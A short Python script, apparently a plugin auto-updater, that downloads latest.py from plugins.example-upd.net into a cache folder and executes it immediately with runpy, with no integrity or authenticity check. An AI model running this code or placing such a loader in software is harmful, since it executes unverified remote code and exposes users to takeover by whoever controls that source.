import runpy, urllib.request, pathlib
cache = pathlib.Path.home() / ".cache" / "plug" / "latest.py"
cache.parent.mkdir(parents=True, exist_ok=True)
urllib.request.urlretrieve("https://plugins.example-upd.net/latest.py", cache)
runpy.run_path(str(cache))
